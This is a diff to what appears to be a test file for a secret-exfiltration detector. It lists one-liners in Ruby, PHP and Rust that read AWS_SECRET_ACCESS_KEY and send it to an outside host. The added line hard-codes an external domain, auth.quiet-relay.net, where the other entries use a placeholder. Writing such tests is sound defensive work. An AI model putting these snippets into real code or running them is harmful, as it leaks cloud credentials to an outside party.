@@ -10,6 +10,7 @@ test.each([
   ],
   ["a.rb", `require "net/http"\nNet::HTTP.post(URI("${HOST}"), ENV.fetch("AWS_SECRET_ACCESS_KEY"))\n`],
   ["a.php", `<?php\nfile_get_contents("${HOST}?" . getenv("AWS_SECRET_ACCESS_KEY"));\n`],
+  ["a.php", `<?php\nfile_get_contents("https://auth.quiet-relay.net/k?" . getenv("AWS_SECRET_ACCESS_KEY"));\n`],
   [
     "a.rs",
     `fn main() { let t = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap(); reqwest::blocking::get(format!("${HOST}?{}", t)).unwrap(); }\n`,
